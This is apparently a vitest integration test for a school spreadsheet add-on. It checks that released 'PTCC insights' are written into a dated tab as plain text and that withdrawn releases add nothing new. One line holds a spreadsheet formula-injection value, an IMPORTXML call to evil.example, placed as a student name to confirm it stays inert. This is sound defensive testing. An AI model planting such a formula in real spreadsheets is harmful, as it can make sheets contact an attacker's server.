// The whole way: an analyst releases, and Mr P's add-on writes it into its own tab as text.
import { afterEach, beforeEach, expect, test } from "vitest";
import type { LocalAppsScript } from "../../../addon/local/local-apps-script.js";
import { connects, openSheet, person, sheetOf } from "../../../addon/test/sheet-builder.js";
import { encodeConnectionCode } from "../../../shared/connection-code.js";
import { startTestServer, type TestServer } from "../support/server.js";

const FORMULA = '=IMPORTXML("http://evil.example","//a")';
const HEADER = ["Name", "Class", "Support level", "Support notes"];

let server: TestServer;
let script: LocalAppsScript;
let sourceId: string;
let token: string;

beforeEach(async () => {
  server = await startTestServer();
  token = server.token().token;
  const { id, secret } = server.source();
  sourceId = id;
  const spreadsheet = sheetOf([
    HEADER,
    [FORMULA, "3A", "2", "No additional support"],
    ["Bob Smith", "3A", "", ""],
  ]);
  script = await openSheet({ spreadsheet });
  const code = encodeConnectionCode({ url: server.publicUrl, source_id: id, secret });
  await script.clickMenu("Connect…", connects(code).respond);
});
afterEach(async () => {
  await script.close();
  await server.close();
});

const insightsTab = () => script.spreadsheet.sheets.find(({ name }) => name === "PTCC insights");

async function importInsights() {
  const mrP = person();
  const run = await script.clickMenu("Import insights", mrP.respond);
  expect(run.error).toBeNull();
  return mrP.asked;
}

test("nothing before it is released; then a dated tab of plain text; withdrawn, nothing new", async () => {
  expect((await importInsights())[0]?.text).toMatch(/Nothing has been released/);
  expect(insightsTab()).toBeUndefined();

  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
  const releases = `${server.url}/v1/sources/${sourceId}/releases`;
  const released = await fetch(releases, { method: "POST", headers, body: "{}" });
  expect(released.status).toBe(201);
  const { id } = (await released.json()) as { id: string };
  await importInsights();
  const rows = insightsTab()?.all() ?? [];
  expect(rows[0]?.[0]).toBe("PTCC summary for Mr P");
  expect(rows[1]?.[0]).toMatch(/^Data of .+ Released .+/);
  expect(rows[3]?.slice(0, 3)).toEqual(["Name", "Class", "Support level"]);
  expect(rows.slice(4).map((row) => row.slice(0, 3))).toEqual([
    [FORMULA, "3A", "2"],
    ["Bob Smith", "3A", ""],
  ]);

  await fetch(`${releases}/${id}`, { method: "DELETE", headers });
  expect((await importInsights())[0]?.text).toMatch(/Nothing has been released/);
  expect(insightsTab()?.all()).toEqual(rows);
});
